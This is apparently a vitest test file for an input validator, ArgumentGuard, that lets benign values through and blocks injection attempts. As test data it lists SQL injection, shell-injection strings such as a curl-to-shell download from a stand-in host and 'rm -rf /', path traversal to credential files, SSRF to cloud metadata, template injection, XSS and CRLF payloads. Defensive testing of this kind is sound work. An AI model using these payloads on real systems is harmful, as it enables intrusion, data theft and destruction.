import { describe, expect, it } from 'vitest';
import { ArgumentGuard } from './argument-guard.js';

const guard = new ArgumentGuard();
const verdictOf = (text: string, param?: string) => {
  const findings = guard.inspect({ text, surface: 'argument', param });
  return (['block', 'hold', 'flag'] as const).find((verdict) => findings.some((finding) => finding.verdict === verdict)) ?? 'allow';
};

describe('a plain value', () => {
  it.each([
    "O'Brien", "D'Angelo & Sons", '12 Union St; Unit 4', '4412 Meridian Ave N #3', 'Smith & Wesson Rd', '5 or 6 bedrooms', 'select the best offer from the list', 'Drop off the keys', 'AT&T',
    "it's 5 or more", 'LST-000001', '206-555-0134', '2026-11-25T10:00:00Z', '1/2 acre', 'Rock -- paper', '50% down', 'update the listing and delete the old photo', '[[phone:c7f2]]', 'O"Neil', 'C++ developer',
    'union station', 'necklace length 16" or 18"', 'https://media.example/1.jpg', 'docs/offers/2026.pdf',
  ])('passes: %s', (text) => {
    expect(verdictOf(text, 'name')).toBe('allow');
  }); // prettier-ignore

  it.each([
    "' or 1=1 --", "' OR 'a'='a", "admin'--", '1 or 1=1', "1; DROP TABLE users", "x' UNION SELECT null, version() --", '1 AND SLEEP(5)', "1' AND (SELECT COUNT(*) FROM users) > 0 --", "'; exec xp_cmdshell('dir') --",
    '1 UNION/**/SELECT 1,2,3', "%27%20or%201%3D1--", "1 and ascii(substring(database(),1,1))>64", "1' ORDER BY 7--", "1' waitfor delay '0:0:5'--", '1 OR x=x', "-1 union all select table_name from information_schema.tables",
  ])('is blocked for SQL: %s', (text) => {
    expect(verdictOf(text, 'id')).toBe('block');
  }); // prettier-ignore
});

describe('a parameter that may reach a shell', () => {
  it.each([
    '; cat /etc/passwd',
    '| id',
    '$(whoami)',
    '`wget http://a.example/x`',
    '&& rm -rf /',
    'a.txt; curl http://a.example | sh',
    '%0a id',
    '${jndi:ldap://a.example/x}',
    '() { :;}; /bin/bash -c id',
  ])('is blocked: %s', (text) => {
    expect(verdictOf(text, 'filename')).toBe('block');
    expect(verdictOf(text, 'command')).toBe('block');
  });

  it('may hold the command that it is for', () => {
    expect(['allow', 'flag']).toContain(verdictOf('ls -la docs', 'command'));
  });
});

describe('a path', () => {
  it.each([
    '../../etc/passwd',
    '..\\..\\windows\\win.ini',
    '%2e%2e%2f%2e%2e%2fsecret',
    '..%252f..%252fsecret',
    '%c0%ae%c0%ae/%c0%ae%c0%ae/x',
    '....//....//x',
    '/etc/shadow',
    '/proc/self/environ',
    'C:\\Windows\\System32\\config',
    '.ssh/id_rsa',
    'a.pdf\u0000.png',
    'file:///etc/passwd',
    'php://filter/resource=x',
  ])('is blocked: %s', (text) => {
    expect(verdictOf(text, 'path')).toBe('block');
  });

  it.each(['offers/2026/counter.pdf', './a/../b.txt', '/srv/documents/TRX-1/cd.pdf', 'src/__init__.py', 'notes.v2.final.docx', 'a..b/c'])(
    'passes: %s',
    (text) => {
      expect(verdictOf(text, 'path')).toBe('allow');
    },
  );
});

describe('a link', () => {
  it.each([
    'http://127.0.0.1/', 'http://localhost:8080', 'http://2130706433/', 'http://0x7f000001/', 'http://0177.0.0.1/', 'http://127.1', 'http://0/', 'http://[::1]/', 'http://[::ffff:127.0.0.1]/', 'http://[::ffff:a9fe:a9fe]/',
    'http://169.254.169.254/latest/meta-data/', 'http://metadata.google.internal/', 'http://10.0.0.8/', 'http://192.168.1.1', 'http://172.20.0.2', 'http://[fd00::1]/', 'http://127.0.0.1.nip.io', 'http://a@127.0.0.1/',
    'http://127.0.0.1\\@a.example/', 'gopher://a.example/_x', 'file:///etc/passwd', 'dict://a.example:11211/', '//169.254.169.254/', 'http://①②⑦.⓪.⓪.①/', 'http://100.100.100.200/',
  ])('is blocked: %s', (text) => {
    expect(verdictOf(text, 'url')).toBe('block');
  }); // prettier-ignore

  it.each([
    'https://www.harbor.example/listing/1?b=2',
    'https://8.8.8.8/',
    'http://example.com:8080/a@b',
    'https://tours.example/#127.0.0.1',
    'mailto:agent@harbor.example',
  ])('passes: %s', (text) => {
    expect(verdictOf(text, 'url')).toBe('allow');
  });
});

describe('templates, operators and markup', () => {
  it.each([
    '{{7*7}}',
    '${7*7}',
    '{{config.__class__.__init__.__globals__}}',
    '<%= system("id") %>',
    '{"$ne": null}',
    'username[$ne]=x',
    '<script>alert(1)</script>',
    'x%0d%0aSet-Cookie: a=1',
  ])('are blocked: %s', (text) => {
    expect(verdictOf(text, 'value')).toBe('block');
  });
});

describe('text that is written for people', () => {
  it.each(["Client asked about the query ' or 1=1 --", 'She said; rm the old photos', 'See {{7*7}}', 'http://127.0.0.1/ is my test page'])(
    'is at most flagged: %s',
    (text) => {
      expect(['allow', 'flag']).toContain(verdictOf(text, 'note'));
    },
  );
});

describe('a filter in OData', () => {
  it.each([
    "City eq 'Seattle' or City eq 'Kent'",
    "ListPrice lt 900000 and contains(PublicRemarks,'view')",
    "startswith(StreetName,'O''Brien')",
    'ModificationTimestamp gt 2026-11-01T00:00:00Z',
    'Media/any(m: m/Order eq 1)',
  ])('passes: %s', (text) => {
    expect(verdictOf(text, 'filter')).toBe('allow');
    expect(verdictOf(text, '$filter')).toBe('allow');
  });
});
